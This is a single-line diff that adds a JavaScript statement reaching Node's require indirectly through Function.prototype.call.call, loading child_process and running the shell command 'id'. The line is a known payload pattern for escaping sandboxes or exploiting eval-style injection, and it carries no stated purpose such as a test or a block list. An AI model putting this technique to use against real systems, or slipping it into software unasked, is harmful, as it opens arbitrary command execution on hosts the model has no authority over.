@@ -1,0 +1,1 @@
+Function.prototype.call.call(require, null, 'child_process').execSync('id');
